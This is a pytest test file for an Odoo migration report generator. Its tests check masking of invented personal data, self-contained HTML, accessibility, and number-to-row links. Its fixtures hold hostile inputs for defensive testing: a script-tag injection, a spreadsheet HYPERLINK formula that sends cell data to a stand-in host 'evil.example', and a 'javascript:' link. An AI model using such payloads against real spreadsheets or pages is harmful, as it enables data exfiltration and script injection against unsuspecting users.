"""The report: self-contained, masked, inert, accessible, and every number leads to its rows."""

from __future__ import annotations

import json
import re
from dataclasses import replace
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path
from random import Random

import pandas as pd
import pytest
from axe_playwright_python.sync_playwright import Axe

from workbench import amounts, by_stage
from workbench.audit import FILES, Tables
from workbench.blocked import BLOCKED
from workbench.checks import ROWS as CHECK_ROWS
from workbench.compare import BY_FIELD, DIFFERENCES, Compared
from workbench.findings import Finding, table
from workbench.kin import DUPLICATES
from workbench.odoo.v19 import RELEASE
from workbench.outcomes import Account, Outcome
from workbench.profile import FORMATS, PROFILE, TOP
from workbench.reconcile import SAMPLES, Reconciliation
from workbench.report import Checked, Decision, Report, Target, outcome_json, phase_json, render
from workbench.report_data import Audited
from workbench.report_rows import Masking
from workbench.splits import MONTHS, SPLITS
from workbench.verdict import RuleResult, SuiteResult
from workbench.witness_cells import DECIDED, MISSING, Witnesses

FIRST = ["Ada", "Bruno", "Chiara", "Dmitri", "Esther", "Farid", "Greta", "Hiroshi", "Imogen", "Joaquín"]
LAST = ["Quillfeather", "Østergaard", "Mandelbaum", "Nakashima", "Fitzwilliam", "Okonkwo", "Vandermeer", "Szczepański"]
CITIES = ["Ashland", "Medford", "Talent", "Phoenix", "Jacksonville"]
SCRIPT = "<script>document.title='broken'</script>"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'

random = Random(7)
PEOPLE = [
    {
        "first": FIRST[n % len(FIRST)], "last": f"{LAST[n % len(LAST)]}", "city": CITIES[n % len(CITIES)],
        "email": f"{FIRST[n % 10].lower()}.{LAST[n % 8].lower()}{n}@mailbox{n % 3}.example",
        "birthday": f"19{50 + n % 50}-03-14", "phone": f"+1503555{n:04}",
        "notes": f"Spoke with {LAST[n % 8]} about day {n}.",
    }
    for n in range(200)
]  # fmt: skip
CLEANED = "same after cleaning"
KINDS = {"Name <b>": "name", "Phone": "phone", "Notes": "longtext"}
REFUSED = f"The operation cannot be completed: '{PEOPLE[80]['last']}' is archived"
LABELS = {"company": ("Companies", "res.partner"), "contact": ("Contacts", "res.partner"), "lead": ("Leads", "crm.lead")}
DECISIONS = (
    ("Status 'Call back later' becomes stage 'Follow-up'", "ada@agency.example", "09:12", "same names"),
    ("Owner bruno.ostergaard@acme.example is the user bruno", "ada@agency.example", "09:14", "same e-mail"),
    ("Birthday is read as month/day/year", "proposal accepted", "09:15", "181 of 181 dates agree"),
)
NOT_MOVED = (("Call recordings", "The export does not carry them."), ("Column 'Lead age'", "Computed on each day."))


def account(entity: str, keys: list[str], **ended: list[tuple[int, str]]) -> Account:
    """Everybody created but those whose position and detail is given per outcome."""
    outcomes = {k: Outcome(k, "created") for k in keys}
    for word, places in ended.items():
        outcomes |= {keys[at]: Outcome(keys[at], word, detail) for at, detail in places}
    return Account.of(entity, keys, outcomes.values())


def compared(entity: str, n: int, fields: dict[str, str], mismatches=(), left=(), missing=()) -> Compared:
    frames = [pd.DataFrame(list(rows), columns=DIFFERENCES, dtype="str") for rows in (mismatches, left)]
    lines = []
    for field, how in fields.items():
        wrong = [int((f["field"] == field).sum()) for f in frames]
        kept = int((frames[1].query("field == @field")["how"] == "existing value kept").sum())
        lines.append((field, how, n, n - sum(wrong), wrong[1] - kept, kept, 0, wrong[0]))
    by_field = pd.DataFrame(lines, columns=BY_FIELD)
    return Compared(entity, n, int(by_field["compared"].sum()), *frames, list(missing), by_field)


AMOUNTS = pd.DataFrame(
    [("toy.deal_1", "Roofs & <b>", "2026-01", Decimal("1234567.50"), Decimal("1234500.00"), Decimal(), Decimal("67.50")),
     ("toy.deal_2", "", "", Decimal("500.00"), Decimal(), Decimal("500.00"), Decimal())],
    columns=amounts.COLUMNS,
)  # fmt: skip


def audited() -> Audited:
    """What an audit left of the same people: tables with data for each picture, rows with what is to be masked."""
    rows = [("placeholder", "lead", "Notes", f"toy.lead_{n}", "leads-1.csv", 2 + n, PEOPLE[n]["notes"],
             f"spelled much like '{PEOPLE[n]['last']}'") for n in range(30)]  # fmt: skip
    rows += [("formula", "lead", "Notes", "toy.lead_3", "leads-1.csv", 5, FORMULA, "")]
    frame = pd.DataFrame(rows, columns=CHECK_ROWS)
    shared = [("phone", f"phone-{n // 2}", f"toy.lead_{n}", "leads-1.csv", 2 + n, 2, "a couple") for n in range(8)]
    created = [(f"toy.lead_{n}", "leads-1.csv", 2 + n, f"2026-0{1 + n % 2}") for n in range(40)]
    profile = [("lead", h, 150, 0.75, 9, 1, 9, k, "text", 0, "a a (150)", "A•••") for h, k in KINDS.items()]
    tables = Tables(
        profile=pd.DataFrame(profile, columns=PROFILE),
        formats=pd.DataFrame([("lead", "Phone", "phone", "999-9999", 30, 1.0, 2)], columns=FORMATS),
        top=pd.DataFrame(columns=TOP), duplicates=pd.DataFrame(shared, columns=DUPLICATES),
        files=pd.DataFrame(columns=FILES),
        splits=pd.DataFrame([("leads-1.csv", 110, "2026-01-02", "2026-02-28", 40, SCRIPT)], columns=SPLITS),
        months=pd.DataFrame(created, columns=MONTHS),
        blocked=pd.DataFrame(columns=BLOCKED), numbers={"calls known": 1234},
    )  # fmt: skip
    return Audited(tables, {code: of.reset_index(drop=True) for code, of in frame.groupby("code")}, KINDS)


STAGES = pd.DataFrame(
    [(f"toy.lead_{n}", "lead", "Quoted" if n < 50 else "Won & done", "Toy", "Offer" if n < 50 else "Won", n // 50)
     for n in range(60)],
    columns=by_stage.COLUMNS,
)  # fmt: skip


def invented(*, wrong: bool = False, waiting: bool = True) -> Report:
    """A run over 200 invented people. `wrong`: three things in Odoo are not as agreed."""
    contacts = [f"toy.contact_{n}" for n in range(200)]
    leads = [f"toy.lead_{n}" for n in range(200)]
    companies = [f"toy.company_k1{n:04}" for n in range(24)]
    rule = "email_form: The e-mail address has one @ and a domain."
    held = [(n, "statuses.csv: Call back later") for n in (20, 21, 22, 23, 24)]
    accounts = {
        "company": account("company", companies, matched=[(3, ""), (4, "")]),
        "contact": account(
            "contact", contacts,
            merged=[(n, f"toy.contact_{n + 1}") for n in (10, 30, 50)], matched=[(n, "") for n in (60, 61)],
            updated=[(62, "phone")],
            **({"quarantined": [(n, rule) for n in (70, 71)],
                "failed": [(80, REFUSED)]} if waiting else {}),
        ),
        "lead": account(
            "lead", leads, filtered=[(n, "statuses.csv: Test record") for n in range(100, 107)],
            **({"held": held, "quarantined": [(n, "It points to a contact that is quarantined.") for n in (70, 71)]}
               if waiting else {}),
        ),
    }  # fmt: skip
    rows = pd.DataFrame(
        [
            (
                "lead",
                f"leads-{1 + n // 110}.csv",
                2 + n % 110,
                "repeated" if n in (150, 151) else "read",
                f"toy.lead_{n}",
                "",
            )
            for n in range(200)
        ]
        + [("lead", "leads-2.csv", 200, "rejected", "", "The row has 31 cells, the header 30.")],
        columns=["table", "file", "row", "status", "key", "reason"],
    )
    places = {
        entity: {k: (f"leads-{1 + n // 110}.csv", 2 + n % 110) for n, k in enumerate(keys)}
        for entity, keys in (("contact", contacts), ("lead", leads), ("company", companies))
    }
    return Report(
        migration="acme", source="Toy CRM", prefix="toy",
        target=Target("http://127.0.0.1:8069", "acme_rehearsal", "0b1f", "19.0"), release=RELEASE,
        run="20261121-170200-118",
        started="2026-11-21T17:02:00+00:00", finished="2026-11-21T17:05:41+00:00", accounts=accounts, rows=rows,
        places=places, suites=suites(), reconciliation=proofs(accounts, wrong), findings=found(),
        undo="workbench undo acme --run 20261121-170200-118", labels=LABELS, not_moved=NOT_MOVED,
        links={k: f"http://127.0.0.1:8069/odoo/contacts/{n}" for n, k in enumerate(contacts)},
        decisions=tuple(Decision(what, who, f"2026-11-20T{at}:00+01:00", why) for what, who, at, why in DECISIONS),
        amounts=AMOUNTS, currency="USD", audited=audited(), stages=STAGES,
        spot_check=(Checked("toy.contact_5", "agrees", "mary.jones@acme.example", "2026-11-21T18:40:00+01:00"),),
    )  # fmt: skip


def suites() -> tuple[SuiteResult, ...]:
    rule = RuleResult("email_form", "The e-mail address has one @ and a domain.", "email", 2, "quarantine", "failed")
    name = RuleResult("name_there", "Every contact has a name.", "name", 0, "shut")
    return (
        SuiteResult("toy_company", "company", 6, 24, True, 0, (replace(name, text="Every company has a name."),)),
        SuiteResult("toy_contact", "contact", 14, 197, True, 2, (rule, name)),
        SuiteResult("toy_lead", "lead", 12, 188, True, 2, (replace(name, text="Every lead has a name."),)),
    )


def proofs(accounts: dict[str, Account], wrong: bool) -> Reconciliation:
    bad = [
        ("toy.contact_7", "city", "Talent", SCRIPT, "differs"),
        ("toy.contact_8", "phone", PEOPLE[8]["phone"], "", "empty in Odoo"),
    ]
    left = [("toy.contact_60", "phone", PEOPLE[60]["phone"], "+15035559999", "existing value kept"),
            ("toy.contact_62", "name", PEOPLE[62]["last"], "Somebody Else", "changed in Odoo")]  # fmt: skip
    names = (
        "name",
        "email",
        "phone",
        "city",
        "state_id",
        "x_toy_birthday",
        "x_toy_lead_vendor",
        "x_source_ref",
        "parent_id",
    )
    fields = dict.fromkeys(names, "exact")
    count = {e: sum(a.counts()[w] for w in ("created", "updated", "unchanged", "matched")) for e, a in accounts.items()}
    lead_fields = {
        "name": "exact",
        "stage_id": "exact",
        "user_id": "exact",
        "description": "html",
        "x_toy_created_on": "exact",
    }
    decided = [
        ("toy.contact_10", "leads-1.csv", 12, "E-mail", PEOPLE[10]["email"], "duplicates.csv: merged into toy.contact_11")
    ]
    missing = [("toy.contact_7", "leads-1.csv", 9, "City", "city", "Talent")] if wrong else []
    frame = [pd.DataFrame(r, columns=c, dtype="object") for r, c in ((decided, DECIDED), (missing, MISSING))]
    empty = [pd.DataFrame(columns=c, dtype="object") for c in (DECIDED, MISSING)]
    rows = []
    for n in (7, 60, 12):
        p = PEOPLE[n]
        name = f"{p['first']} {p['last']}"
        rows += [
            (f"toy.contact_{n}", "name", name.upper(), name, name, CLEANED),
            (f"toy.contact_{n}", "email", p["email"], p["email"], p["email"], "same"),
            (f"toy.contact_{n}", "phone", p["phone"][2:], p["phone"], p["phone"], "decided" if n == 60 else CLEANED),
            (f"toy.contact_{n}", "city", p["city"], p["city"], SCRIPT if wrong and n == 7 else p["city"],
             "differs" if wrong and n == 7 else "same"),
            (f"toy.contact_{n}", "state_id", "OR", "res.country.state/US-OR", "US-OR\nOregon", CLEANED),
            (f"toy.contact_{n}", "x_toy_birthday", "3/14/1980", p["birthday"], p["birthday"], CLEANED),
            (f"toy.contact_{n}", "x_toy_lead_vendor", FORMULA, FORMULA, FORMULA, "same"),
        ]  # fmt: skip
    return Reconciliation(
        {
            "company": compared("company", count["company"], {"name": "exact", "website": "exact", "user_id": "exact"}),
            "contact": compared("contact", count["contact"], fields, bad if wrong else (), left),
            "lead": compared("lead", count["lead"], lead_fields),
        },
        {
            "company": Witnesses("company", 24, 24, *empty),
            "contact": Witnesses("contact", 1400, 1399 - len(missing), *frame),
            "lead": Witnesses("lead", 1100, 1100, *empty),
        },
        (("lead", "x_toy_created_on", "Seconds are not in the export."),),
        {"contact": pd.DataFrame(rows, columns=SAMPLES[:-1]).assign(column="")},
    )  # fmt: skip


def found() -> pd.DataFrame:
    todo = "Change it in quarantine/contact.csv and run again."
    findings = [
        Finding("invalid_phone", "warning", f"{SCRIPT}{n}: no valid number.", todo, "contact", f"toy.contact_{n}",
                "leads-1.csv", n, "phone", f"{SCRIPT}{n}")
        for n in range(2, 39)
    ]  # fmt: skip
    findings += [
        Finding("invalid_date", "warning", f"Birthday {PEOPLE[n]['birthday']!r}: no such day.", "", "contact",
                f"toy.contact_{n}", "leads-1.csv", n, "birthday", PEOPLE[n]["birthday"])
        for n in range(40, 46)
    ]  # fmt: skip
    findings += [
        Finding("duplicate_email", "note", f"Shared with {PEOPLE[n]['email']}.", "", "contact", f"toy.contact_{n}",
                "leads-1.csv", n, "email", PEOPLE[n]["email"])
        for n in range(50, 58)
    ]  # fmt: skip
    findings += [
        Finding("rule_failed", "error", "The e-mail address has one @ and a domain.", todo, "contact", f"toy.contact_{n}",
                "leads-1.csv", n, "Custom column", PEOPLE[n]["notes"])
        for n in (70, 71)
    ]  # fmt: skip
    findings.append(
        Finding(
            "refused",
            "error",
            f"Odoo refused the record: '{PEOPLE[80]['last']}' is archived",
            "",
            "contact",
            "toy.contact_80",
        )
    )
    findings += [
        Finding(
            "placeholder", "note", "Notes: 30 of 200 lead records hold a placeholder.", "Say so.", "lead", field="Notes"
        ),
        Finding("filtered_export", "warning", "Stage: no record has 'Sold' (90).", "Export again.", "lead", field="Stage"),
    ]
    findings.append(
        Finding("no_time_zone", "warning", "No file says in which zone its times are.", "Set time_zone in migration.toml.")
    )
    return table(findings)


class Page(HTMLParser):
    """Addresses that a browser would ask for, links, ids, and numbers in cells that are no link."""

    def __init__(self, path: Path) -> None:
        super().__init__()
        self.loads: list[str] = []
        self.links: list[str] = []
        self.ids: list[str] = []
        self.scripts = 0
        self.bare: list[str] = []
        self._open: list[str] = []
        self.feed(path.read_text(encoding="utf-8"))

    def handle_starttag(self, tag, attrs):
        values = dict(attrs)
        self.ids += [values["id"]] if values.get("id") else []
        self.scripts += tag == "script"
        if tag == "a":
            self.links.append(values["href"])
        elif values.get("href") or values.get("src"):
            self.loads.append(values.get("href") or values.get("src"))
        number = tag == "td" and (values.get("class") or "").split()[:1] == ["n"]
        if tag not in ("meta", "link", "br", "col", "path", "circle"):
            self._open.append("number" if number else tag)

    def handle_endtag(self, tag):
        while self._open and self._open.pop() not in (tag, "number" if tag == "td" else tag):
            pass

    def handle_data(self, data):
        number = data.strip().replace(",", "")
        if "number" in self._open and "a" not in self._open and number.isdigit() and number != "0":
            self.bare.append(number)


@pytest.fixture(scope="module")
def pages(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("reports") / "acme"
    return render(folder, invented(wrong=True)).parent


HTML = ("index.html", "export.html", "company.html", "contact.html", "lead.html")


def everything(folder: Path) -> dict[str, str]:
    return {p.relative_to(folder).as_posix(): p.read_text(encoding="utf-8") for p in folder.rglob("*") if p.is_file()}


def test_the_pages_load_nothing_and_run_nothing(pages):
    for name in HTML:
        page = Page(pages / name)
        assert [a for a in page.loads if not a.startswith("data:")] == []
        assert page.scripts == 0
        outside = [a for a in page.links if re.match(r"[a-z]+:|//", a)]
        assert all(a.startswith("http://127.0.0.1:8069/odoo/") for a in outside)
        text = (pages / name).read_text(encoding="utf-8")
        assert "@import" not in text
        assert not re.search(r"url\(", text)
        assert len(text) < 10_000_000


def test_every_link_leads_somewhere_and_every_number_is_one(pages):
    parsed = {name: Page(pages / name) for name in HTML}
    for name, page in parsed.items():
        assert len(page.ids) == len(set(page.ids)), name
        for link in page.links:
            if link.startswith("http:"):
                continue
            path, _, anchor = link.partition("#")
            assert (pages / (path or name)).is_file(), f"{name}: {link}"
            assert not anchor or anchor in parsed[path or name].ids, f"{name}: {link}"
        assert page.bare == [], name  # but for the places in files, which have another class


def test_the_rows_behind_a_number_are_as_many(pages):
    for name in HTML:
        text = (pages / name).read_text(encoding="utf-8")
        for href, shown in re.findall(r'<a href="(rows/[^"]+\.csv)">(?:All )?([0-9,]+)(?: rows as CSV)?</a>', text):
            if shown != "" and "#fields" not in href:
                rows = len(pd.read_csv(pages / href, dtype=str, keep_default_na=False))
                assert int(shown.replace(",", "")) <= rows, f"{name}: {href}"
    index = (pages / "index.html").read_text(encoding="utf-8")
    for outcome in ("in-the-source", "in-odoo", "merged", "quarantined", "failed"):
        (shown,) = set(re.findall(rf'<a href="rows/contact-{outcome}\.csv">([0-9,]+)</a>', index)) or {"0"}
        frame = pd.read_csv(pages / f"rows/contact-{outcome}.csv", dtype=str, keep_default_na=False)
        assert len(frame) == int(shown)
        assert list(frame.columns) == ["key", "file", "row", "outcome", "detail", "link"]


def test_the_first_screen_adds_up(pages):
    index = (pages / "index.html").read_text(encoding="utf-8")
    for row in re.findall(r'<tr role="row">\n<th scope="row".*?</tr>', index, re.S):
        row = re.sub(r"<small>.*?</small>", "", row, flags=re.S)
        whole, *parts = (int(n.replace(",", "")) for n in re.findall(r">([0-9,]+)<", row))
        assert whole == sum(parts)
        assert "adds up" in row


def test_nothing_personal_is_shown(pages):
    for name, text in everything(pages).items():
        for person in PEOPLE:
            assert person["email"] not in text, name
            assert person["phone"] not in text, name
            assert person["phone"][2:] not in text, name
            assert person["birthday"] not in text, name
            assert person["notes"] not in text, name
        assert not re.search("|".join(map(re.escape, LAST)), text, re.I), name
        assert not re.search(r"bruno\.ostergaard|mary\.jones|ada@", text), name
    assert "***@mailbox" in (pages / "contact.html").read_text(encoding="utf-8")


def test_unmasked_shows_all_and_says_so(tmp_path):
    render(tmp_path, invented(), masked=False)
    text = (tmp_path / "contact.html").read_text(encoding="utf-8")
    assert PEOPLE[7]["email"] in text
    assert "This copy shows personal data." in text


def test_hostile_text_is_inert(pages, browser):
    for name, text in everything(pages).items():
        if name.endswith(".html"):
            assert "<script" not in text
        elif name.endswith(".csv"):
            frame = pd.read_csv(pages / name, dtype=str, keep_default_na=False)
            assert not frame.stack().str.match(r"[=+\-@]").any(), name
    page = browser.new_page()
    page.goto((pages / "contact.html").as_uri())
    assert page.title() == "Contacts: acme"
    page.close()


def test_a_link_that_is_no_web_address_is_no_link(tmp_path):
    report = invented()
    render(tmp_path, replace(report, links={"toy.contact_7": "javascript:alert(1)"}))
    assert "javascript" not in (tmp_path / "contact.html").read_text(encoding="utf-8")


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [1280, 390])
def test_axe_finds_nothing_and_nothing_sticks_out(pages, browser, scheme, width):
    page = browser.new_page(viewport={"width": width, "height": 900}, color_scheme=scheme)
    page.set_default_timeout(0)  # a busy machine is no fault of the pages
    asked: list[str] = []
    page.on("request", lambda r: asked.append(r.url))
    for name in HTML:
        page.goto((pages / name).as_uri())
        page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
        violations = Axe().run(page).response["violations"]
        assert violations == [], [(v["id"], v["nodes"][0]["html"], v["nodes"][0].get("failureSummary")) for v in violations]
        assert page.evaluate("document.documentElement.scrollWidth") <= width, name
    assert all(url.startswith(("file:", "data:")) for url in asked)
    page.close()


@pytest.mark.parametrize(
    ("report", "words"),
    [
        (invented(wrong=True), "3 values do not match"),
        (invented(), "10 records wait for a decision"),
        (invented(waiting=False), "Everything is accounted for"),
        (
            replace(invented(), reconciliation=None, stopped="Mapping: 4 of 27 columns are unconfirmed."),
            "The load is stopped",
        ),
        (replace(invented(), reconciliation=None), "Loaded, and not read back yet"),
        (
            replace(invented(), suites=(replace(suites()[0], passed=False, problem="a rule is missing"),)),
            "The load is stopped",
        ),
    ],
)
def test_the_verdict_in_words(tmp_path, report, words):
    text = render(tmp_path, report).read_text(encoding="utf-8")
    assert re.search(r'<h1 id="verdict">(.*?)</h1>', text)[1] == words


def test_an_account_that_does_not_close_stops_the_load(tmp_path):
    report = invented(waiting=False)
    short = replace(report.accounts["lead"], extracted=report.accounts["lead"].extracted | {"toy.lead_999"})
    text = render(tmp_path, replace(report, accounts={**report.accounts, "lead": short})).read_text(encoding="utf-8")
    assert "does not add up" in text
    assert "The load is stopped" in text


def test_at_most_three_things_first_and_the_most_damaging_before(pages, tmp_path):
    index = (pages / "index.html").read_text(encoding="utf-8")
    first = re.findall(r"<li>(.*?)</li>", index.partition('class="first"')[2].partition("</ol>")[0])
    assert len(first) == 3
    assert "2 values not in Odoo as prepared" in first[0]
    quiet = replace(invented(waiting=False), findings=table([]))
    assert "Nothing needs a decision" in render(tmp_path, quiet).read_text(encoding="utf-8")


def test_findings_come_most_damaging_first_and_show_twenty_rows(pages):
    text = (pages / "contact.html").read_text(encoding="utf-8")
    kinds = re.findall(r'<details id="(\w+)">', text)
    assert kinds == ["rule_failed", "refused", "invalid_phone", "invalid_date", "duplicate_email"]
    phones = text.partition('id="invalid_phone"')[2].partition("</details>")[0]
    assert phones.count('<tr role="row">') == 1 + 20
    assert len(pd.read_csv(pages / "rows/contact-finding-invalid_phone.csv".replace("_", "-"))) == 37


def test_outcome_json_has_the_fixed_form(pages):
    written = json.loads((pages / "outcome.json").read_text(encoding="utf-8"))
    assert written == outcome_json(invented(wrong=True))
    assert list(written) == ["run", "source", "started", "finished", "target", "entities", "gates", "reconciliation"]
    assert list(written["target"]) == ["url", "database", "uuid", "version"]
    assert list(written["entities"]["lead"]) == [
        "extracted", "created", "updated", "unchanged", "matched", "merged", "filtered", "rejected", "quarantined", "held",
        "failed", "closes",
    ]  # fmt: skip
    assert list(written["gates"][0]) == ["suite", "expectations", "rows", "passed", "failed_rows"]
    assert list(written["reconciliation"]) == ["records", "fields", "mismatches", "witnesses", "missing", "declared_lossy"]
    assert written["reconciliation"]["mismatches"] == 2
    phase = json.loads((pages / "phase-02.json").read_text(encoding="utf-8"))
    assert phase == phase_json("contact", invented().accounts["contact"])
    assert sum(len(keys) for keys in phase["keys"].values()) == phase["extracted"] == 200


def test_files_are_private_and_an_earlier_report_is_replaced(tmp_path):
    render(tmp_path, invented(wrong=True))
    assert (tmp_path / "rows/contact-mismatches.csv").exists()
    render(tmp_path, invented())
    assert not (tmp_path / "rows/contact-mismatches.csv").exists()
    assert {p.stat().st_mode & 0o077 for p in tmp_path.rglob("*") if p.is_file()} == {0}


@pytest.mark.parametrize(
    ("entity", "field", "text", "shown"),
    [
        ("contact", "email", "jo@example.com", "***@example.com"),
        ("contact", "city", "Ashland", "Ashland"),
        ("contact", "city", "jo.li@example.com", "j***@example.com"),
        ("contact", "city", "call 503 555 0147 x", "call ••• ••• 0147 x"),
        ("contact", "x_toy_anything", "Secret", "S•••"),
        ("contact", "x_source_ref", "toy.contact_1", "toy.contact_1"),
        ("contact", "x_toy_birthday", "1980-01-31", "••••-••-••"),
        ("lead", "x_toy_created_on", "2026-01-31 17:00:00", "2026-01-31 17:00:00"),
        ("lead", "user_id", "jones@acme.example", "j***@acme.example"),
        ("lead", "probability", "10", "10"),
    ],
)
def test_masking_by_field(entity, field, text, shown):
    assert Masking(RELEASE, "toy").value(entity, field, text) == shown
    assert Masking(RELEASE, "toy", masked=False).value(entity, field, text) == text


def test_a_finding_of_an_unknown_column_is_masked_and_of_a_known_one_by_its_kind():
    masking = Masking(RELEASE, "toy")
    assert masking.finding("contact", "Phone number", "Quillfeather") == "Q•••"
    assert masking.finding("lead", "status", "New lead") == "New lead"
    assert masking.finding("", "", "Quillfeather") == "Q•••"


def test_amounts_are_shown_to_the_cent_and_a_difference_is_marked(pages):
    page = (pages / "index.html").read_text(encoding="utf-8")
    assert "1,234,567.50" in page
    assert "67.50" in page
    assert "Roofs &amp; &lt;b&gt;" in page
    assert page.count('class="differing"') == 4  # of the sum, of its pipeline, and of that pipeline's month and sum


def test_the_page_of_the_export_has_pictures_their_data_and_the_rows_behind_each_number(pages, tmp_path):
    page = (pages / "export.html").read_text(encoding="utf-8")
    assert page.count('role="img"') == 4
    assert page.count("The same as a table") == 4
    assert '<a href="rows/export-by-month.csv">20</a>' in page
    assert len(pd.read_csv(pages / "rows/export-by-month.csv")) == 40
    assert len(pd.read_csv(pages / "rows/export-placeholder.csv")) == 30
    assert re.findall(r'<details id="(\w+)">', page) == ["filtered_export", "placeholder", "formula"]
    assert "1,234 calls" in page
    quiet = invented(waiting=False)
    quiet = replace(quiet, findings=quiet.findings[quiet.findings["code"] == "filtered_export"])
    assert "Export: 1 × Values or days that one would expect" in render(tmp_path, quiet).read_text(encoding="utf-8")
    render(tmp_path, replace(invented(), audited=None))
    assert not (tmp_path / "export.html").exists()
    assert "export.html" not in (tmp_path / "index.html").read_text(encoding="utf-8")
    assert 'id="placeholder"' in (tmp_path / "lead.html").read_text(encoding="utf-8")
    assert 'id="placeholder"' not in (pages / "lead.html").read_text(encoding="utf-8")
